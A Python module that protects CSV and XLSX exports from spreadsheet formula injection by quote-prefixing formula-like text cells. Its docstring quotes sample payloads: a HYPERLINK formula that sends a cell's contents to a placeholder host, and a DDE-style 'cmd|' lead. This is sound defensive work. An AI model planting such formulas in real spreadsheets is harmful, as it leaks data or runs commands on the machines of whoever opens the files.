"""Cells of the spreadsheets the app writes, made safe to open (CSV/formula injection).

A rule title, an item name, a reversal reason or a roster name is typed by one
person and opened by another in Excel or WPS. A text that begins like a formula
(``=HYPERLINK("http://e.x/?"&C2)``, ``@SUM(...)``, ``-2+3+cmd|...``) must stay a
text there. Every exporter passes its rows through this module:

- CSV (OWASP's rule): a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return (or the full-width ＝＋－＠ some input methods type) gets a leading
  ``'``; the rest of the text is kept as it was.
- XLSX: such a text is written as a string cell (never a formula, which openpyxl
  would otherwise make of anything beginning with ``=``) with Excel's quote-prefix
  flag, the way Excel stores a text typed as ``'=…``: it shows the text exactly and
  stays a text when someone edits the cell.

Only texts are touched: numbers (negative points among them) stay numbers.
"""
from __future__ import annotations

from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell

#: how a cell's text may begin that a spreadsheet would read as a formula (or hide a formula behind)
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_formula_like(value) -> bool:
    """True for a text a spreadsheet could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_LEADS)


def csv_value(value):
    """A cell for a CSV file: a formula-like text gets a leading ``'``; anything else is unchanged."""
    return "'" + value if is_formula_like(value) else value


def csv_row(row: Iterable) -> list:
    """A CSV row with every formula-like text neutralised."""
    return [csv_value(value) for value in row]


def xlsx_row(sheet, row: Iterable, font=None) -> list:
    """A row for ``sheet.append``: formula-like texts as quote-prefixed string cells.

    Works for write-only and ordinary worksheets (both take cells in ``append``);
    ``font`` styles every cell of the row (a header).
    """
    cells = []
    for value in row:
        if not (is_formula_like(value) or font is not None):
            cells.append(value)
            continue
        cell = WriteOnlyCell(sheet, value=value)
        if is_formula_like(value):
            cell.data_type = "s"  # openpyxl made it a formula ("f") because it begins with "="
            cell.quotePrefix = True
        if font is not None:
            cell.font = font
        cells.append(cell)
    return cells
